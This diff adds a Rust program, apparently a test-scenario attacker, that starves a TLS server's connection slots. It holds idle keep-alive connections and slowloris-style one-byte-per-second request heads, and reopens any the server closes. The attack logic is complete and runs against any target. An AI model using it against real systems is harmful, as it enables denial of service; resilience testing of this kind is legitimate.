@@ -1,0 +1,191 @@
+//! The connection-starvation attacker of the `attack` scenario: a pod that tries to hold an
+//! initializer's connection slots. It keeps `ATTACK_IDLE` idle keep-alive connections (TLS, one
+//! `GET /healthz`, then silence) and `ATTACK_SLOW` slow-header connections (TLS, then a request
+//! head one byte a second) open to `ATTACK_TARGET`, reopening each one the server closes after
+//! `ATTACK_REOPEN_MS`, and prints what it holds every second (`held idle=… slow=… …`).
+//!
+//! It runs where the pods are reachable (`Backend::command_inside`), spread over the source
+//! addresses in `ATTACK_SOURCES` (comma-separated; as many attacker pods would be), or from the
+//! default address when that is empty or an address cannot be bound. It verifies the server with
+//! the CA in the PEM file `ATTACK_CA` for the name `ATTACK_SERVER_NAME`, as any client would:
+//! the attack needs no secret. It runs until killed.
+
+use std::net::{IpAddr, SocketAddr};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::time::Duration;
+
+use anyhow::{Context, bail};
+use rustls::pki_types::ServerName;
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::{TcpSocket, TcpStream};
+use tokio_rustls::TlsConnector;
+
+/// What the attacker holds and has done, printed every second.
+#[derive(Default)]
+struct Tally {
+    idle: AtomicUsize,
+    slow: AtomicUsize,
+    opened: AtomicUsize,
+    closed_by_server: AtomicUsize,
+    failed: AtomicUsize,
+}
+
+struct Settings {
+    target: SocketAddr,
+    server_name: ServerName<'static>,
+    connector: TlsConnector,
+    sources: Vec<IpAddr>,
+    reopen: Duration,
+}
+
+fn var(name: &str) -> anyhow::Result<String> {
+    std::env::var(name).with_context(|| format!("failed to read {name}"))
+}
+
+fn connector(ca_pem: &[u8]) -> anyhow::Result<TlsConnector> {
+    let provider = Arc::new(rustls::crypto::ring::default_provider());
+    let mut roots = rustls::RootCertStore::empty();
+    for cert in rustls_pemfile::certs(&mut &ca_pem[..]) {
+        roots.add(cert.context("failed to parse the CA")?)?;
+    }
+    if roots.is_empty() {
+        bail!("failed to find a certificate in ATTACK_CA");
+    }
+    let config = rustls::ClientConfig::builder_with_provider(provider)
+        .with_safe_default_protocol_versions()?
+        .with_root_certificates(roots)
+        .with_no_client_auth();
+    Ok(TlsConnector::from(Arc::new(config)))
+}
+
+async fn tcp(settings: &Settings, index: usize) -> std::io::Result<TcpStream> {
+    let socket = match settings.target {
+        SocketAddr::V4(_) => TcpSocket::new_v4()?,
+        SocketAddr::V6(_) => TcpSocket::new_v6()?,
+    };
+    if !settings.sources.is_empty() {
+        let source = settings.sources[index % settings.sources.len()];
+        // An address this host cannot bind (a cluster whose pod range is not local here) leaves
+        // the connection on the default address: fewer "pods", the same attack.
+        let _ = socket.bind(SocketAddr::new(source, 0));
+    }
+    socket.connect(settings.target).await
+}
+
+type Tls = tokio_rustls::client::TlsStream<TcpStream>;
+
+async fn open(settings: &Settings, index: usize) -> std::io::Result<Tls> {
+    let tcp = tcp(settings, index).await?;
+    settings
+        .connector
+        .connect(settings.server_name.clone(), tcp)
+        .await
+}
+
+/// Reads until the end of one answer's head and its short body (`/healthz` answers `ok`).
+async fn read_answer(tls: &mut Tls) -> std::io::Result<()> {
+    let mut seen = Vec::new();
+    let mut buf = [0u8; 1024];
+    while !(seen.windows(4).any(|w| w == b"\r\n\r\n") && seen.ends_with(b"ok")) {
+        let n = tls.read(&mut buf).await?;
+        if n == 0 {
+            return Err(std::io::ErrorKind::UnexpectedEof.into());
+        }
+        seen.extend_from_slice(&buf[..n]);
+    }
+    Ok(())
+}
+
+/// One idle keep-alive connection: a request, then silence until the server closes it.
+async fn hold_idle(settings: &Settings, tally: &Tally, index: usize) -> std::io::Result<()> {
+    let mut tls = open(settings, index).await?;
+    tally.opened.fetch_add(1, Ordering::Relaxed);
+    tls.write_all(b"GET /healthz HTTP/1.1\r\nHost: attacker\r\n\r\n")
+        .await?;
+    tls.flush().await?;
+    read_answer(&mut tls).await?;
+    tally.idle.fetch_add(1, Ordering::Relaxed);
+    let mut buf = [0u8; 64];
+    let ended = tls.read(&mut buf).await;
+    tally.idle.fetch_sub(1, Ordering::Relaxed);
+    tally.closed_by_server.fetch_add(1, Ordering::Relaxed);
+    ended.map(drop)
+}
+
+/// One slow-header connection: a request head, one byte a second, never finished.
+async fn hold_slow(settings: &Settings, tally: &Tally, index: usize) -> std::io::Result<()> {
+    let tls = open(settings, index).await?;
+    tally.opened.fetch_add(1, Ordering::Relaxed);
+    let (mut reader, mut writer) = tokio::io::split(tls);
+    tally.slow.fetch_add(1, Ordering::Relaxed);
+    let dribble = async {
+        let head = b"POST /initialize HTTP/1.1\r\nHost: attacker\r\nX-Slow: ";
+        for byte in head.iter().copied().chain(std::iter::repeat(b'a')) {
+            writer.write_all(&[byte]).await?;
+            writer.flush().await?;
+            tokio::time::sleep(Duration::from_secs(1)).await;
+        }
+        Ok::<(), std::io::Error>(())
+    };
+    let mut buf = [0u8; 256];
+    let ended = tokio::select! {
+        written = dribble => written,
+        read = reader.read(&mut buf) => read.map(drop),
+    };
+    tally.slow.fetch_sub(1, Ordering::Relaxed);
+    tally.closed_by_server.fetch_add(1, Ordering::Relaxed);
+    ended
+}
+
+#[tokio::main]
+async fn main() -> anyhow::Result<()> {
+    let target: SocketAddr = var("ATTACK_TARGET")?.parse()?;
+    let server_name = ServerName::try_from(var("ATTACK_SERVER_NAME")?)?;
+    let ca = std::fs::read(var("ATTACK_CA")?).context("failed to read ATTACK_CA")?;
+    let idle: usize = var("ATTACK_IDLE")?.parse()?;
+    let slow: usize = var("ATTACK_SLOW")?.parse()?;
+    let reopen = Duration::from_millis(var("ATTACK_REOPEN_MS")?.parse()?);
+    let sources = std::env::var("ATTACK_SOURCES")
+        .unwrap_or_default()
+        .split(',')
+        .filter(|s| !s.is_empty())
+        .map(str::parse)
+        .collect::<Result<Vec<IpAddr>, _>>()?;
+    let settings = Arc::new(Settings {
+        target,
+        server_name,
+        connector: connector(&ca)?,
+        sources,
+        reopen,
+    });
+    let tally = Arc::new(Tally::default());
+    for index in 0..idle + slow {
+        let (settings, tally) = (Arc::clone(&settings), Arc::clone(&tally));
+        tokio::spawn(async move {
+            loop {
+                let held = if index < idle {
+                    hold_idle(&settings, &tally, index).await
+                } else {
+                    hold_slow(&settings, &tally, index).await
+                };
+                if held.is_err() {
+                    tally.failed.fetch_add(1, Ordering::Relaxed);
+                }
+                tokio::time::sleep(settings.reopen).await;
+            }
+        });
+    }
+    let mut ticks = tokio::time::interval(Duration::from_secs(1));
+    loop {
+        ticks.tick().await;
+        println!(
+            "held idle={} slow={} opened={} closed_by_server={} failed={}",
+            tally.idle.load(Ordering::Relaxed),
+            tally.slow.load(Ordering::Relaxed),
+            tally.opened.load(Ordering::Relaxed),
+            tally.closed_by_server.load(Ordering::Relaxed),
+            tally.failed.load(Ordering::Relaxed),
+        );
+    }
+}
